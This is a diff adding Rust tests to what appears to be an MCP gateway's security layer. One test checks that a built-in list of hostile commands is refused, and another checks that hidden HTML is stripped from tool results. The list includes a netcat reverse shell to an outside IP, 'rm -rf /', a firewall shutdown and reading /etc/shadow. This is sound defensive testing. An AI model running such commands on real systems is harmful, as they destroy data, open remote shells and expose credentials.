@@ -41,6 +41,47 @@ fn code_of(answer: &Answer) -> String {
     header
 }
 
+/// Of each kind that the page names.
+const SIGNATURES: [&str; 6] = [
+    "rm -rf /",
+    "sudo systemctl stop firewalld",
+    "nc -e /bin/sh 203.0.113.7 4444",
+    "cat /etc/shadow",
+    "eval(atob('eA=='))",
+    "chmod -R 777 /srv",
+];
+
+#[test]
+fn built_in_signatures_are_refused_with_400_whatever_the_policy_says() {
+    let place = Place::new(Mode::Invoker);
+    let server = server(&["run"], |params| params["arguments"]["command"].clone());
+    let policy = "sandbox: {mcp: {content: {arguments: off}, rules: [{tool: run, action: audit}]}}\n";
+    let gateway = before(&place, &server, policy, "");
+    let session = gateway.shake_hands("/mcp/far", &[]);
+    let headers = [("Mcp-Session-Id", session.as_str())];
+    for (id, command) in (1..).zip(SIGNATURES) {
+        let answer = gateway.post("/mcp/far", &headers, &call(id, "run", json!({"command": command})));
+        assert_eq!((answer.status, code_of(&answer).as_str()), (400, "BLOCKED_MALICIOUS"), "{command}");
+        let error = answer.last();
+        assert_eq!((&error["id"], &error["error"]["code"]), (&json!(id), &json!(-32001)), "{error}");
+        assert!(
+            error["error"]["message"].as_str().unwrap().contains("no policy lets such a command pass here")
+        );
+    }
+    // What is read counts as what is called does, and a client that takes streams hears the status all the same.
+    let read = json!({"jsonrpc": "2.0", "id": 50, "method": "resources/read", "params": {"uri": "file:///etc/shadow"}});
+    let streams = [headers[0], ("Accept", "text/event-stream, application/json")];
+    let answer = gateway.post("/mcp/far", &streams, &read);
+    assert_eq!((answer.status, code_of(&answer).as_str()), (400, "BLOCKED_MALICIOUS"));
+    assert!(
+        !server.asked().iter().any(|asked| ["tools/call", "resources/read"].contains(&asked.rpc().as_str()))
+    );
+    for (id, command) in (60..).zip(["rm -rf build/", "rm -rf node_modules dist && npm ci", "ls -la"]) {
+        let answer = gateway.post("/mcp/far", &headers, &call(id, "run", json!({"command": command})));
+        assert_eq!((answer.status, &answer.last()["result"]["content"][0]["text"]), (200, &json!(command)));
+    }
+}
+
 #[test]
 fn servers_that_are_not_public_or_in_plain_text_have_statuses_and_codes_of_their_own() {
     let place = Place::new(Mode::Invoker);
@@ -64,6 +105,32 @@ fn servers_that_are_not_public_or_in_plain_text_have_statuses_and_codes_of_their
             assert_eq!(answer.last()["id"], 7, "{}", answer.body);
             assert!(answer.header("mcp-session-id").is_none());
         }
+    }
+}
+
+#[test]
+fn hidden_html_is_removed_from_every_result_where_the_policy_says_so() {
+    const PAGE: &str = "<p>The price is 5.</p><!-- build 7 --><p hidden>draft</p><div style=\"display: none\">more</div>\
+                        <noscript>turn it on</noscript><input type=hidden name=a value=token><iframe width=0 height=0></iframe>\
+                        <p style=\"position:absolute;left:-9999px\">far</p>";
+    for (policy, removed) in [
+        ("hidden_html: remove", true),
+        ("hidden_html: remove, results: off", true),
+        ("results: advise", false),
+    ] {
+        let place = Place::new(Mode::Invoker);
+        let server = server(&["get"], |_| json!(PAGE));
+        let gateway = before(&place, &server, &format!("sandbox: {{mcp: {{content: {{{policy}}}}}}}\n"), "");
+        let session = gateway.shake_hands("/mcp/far", &[]);
+        let answer = gateway.post("/mcp/far", &[("Mcp-Session-Id", &session)], &call(1, "get", json!({})));
+        let text = answer.last()["result"]["content"][0]["text"].as_str().unwrap().to_owned();
+        assert!(text.starts_with("<p>The price is 5.</p>"), "{text}");
+        for hidden in ["build 7", "draft", "more", "turn it on", "token", "iframe", "far"] {
+            assert_eq!(text.contains(hidden), !removed, "{policy}: {hidden}: {text}");
+        }
+        gateway.stop();
+        let told = place.detections().iter().any(|found| found["rule"].to_string().contains("hidden_html"));
+        assert_eq!(told, removed, "{policy}");
     }
 }
 
